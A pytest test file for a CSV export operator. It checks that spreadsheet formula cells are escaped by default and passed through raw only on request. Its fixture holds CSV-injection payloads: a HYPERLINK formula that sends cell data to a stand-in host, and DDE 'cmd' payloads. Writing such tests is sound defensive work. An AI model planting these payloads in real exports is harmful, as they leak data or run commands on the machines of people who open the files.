"""CSV exports never carry a live spreadsheet formula (unless asked to)."""

from __future__ import annotations

import csv
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from airflow_provider_simplestore.hooks.simplestore import SimpleStoreHook
from airflow_provider_simplestore.transfers.simplestore_to_storage import SimpleStoreToObjectStorageOperator
from airflow_provider_simplestore.utils.formats import cell
from tests.operator_support import context

HOSTILE = {
    "firstName": '=HYPERLINK("http://evil.example/?"&B2,"Click")',
    "lastName": "+1+cmd|' /C calc'!A0",
    "displayName": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.fixture
def shop(fresh_sandbox: Callable[..., Any], monkeypatch: pytest.MonkeyPatch) -> Any:
    sb = fresh_sandbox(products=1, customers=1, orders=0)
    monkeypatch.setenv("AIRFLOW_CONN_SIMPLESTORE_DEFAULT", sb.connection_json())
    with SimpleStoreHook() as hook:
        hook.create_customer({"emailAddress": "mallory@example.com", **HOSTILE})
        hook.create_customer(
            {"emailAddress": "tab@example.com", "firstName": "\tTab", "lastName": "-Dash", "displayName": "\rCR"}
        )
    return sb


def rows(path: Path) -> dict[str, dict[str, str]]:
    with path.open(newline="") as f:
        return {row["emailAddress"]: row for row in csv.DictReader(f)}


def test_formula_cells_are_neutralised_by_default(shop: Any, tmp_path: Path) -> None:
    target = tmp_path / "customers.csv"
    SimpleStoreToObjectStorageOperator(task_id="export", resource="customers", destination=str(target)).execute(
        context()
    )
    exported = rows(target)
    for field, value in HOSTILE.items():
        assert exported["mallory@example.com"][field] == "'" + value
    tabbed = exported["tab@example.com"]
    assert (tabbed["firstName"], tabbed["lastName"], tabbed["displayName"]) == ("'\tTab", "'-Dash", "'\rCR")


def test_raw_formulas_on_request(shop: Any, tmp_path: Path) -> None:
    target = tmp_path / "customers.csv"
    SimpleStoreToObjectStorageOperator(
        task_id="export", resource="customers", destination=str(target), csv_raw_formulas=True
    ).execute(context())
    assert {k: rows(target)["mallory@example.com"][k] for k in HOSTILE} == HOSTILE


def test_numbers_are_data_not_formulas() -> None:
    assert (cell(-5), cell(-0.5), cell(True), cell({"a": "=1"})) == ("-5", "-0.5", "true", '{"a":"=1"}')
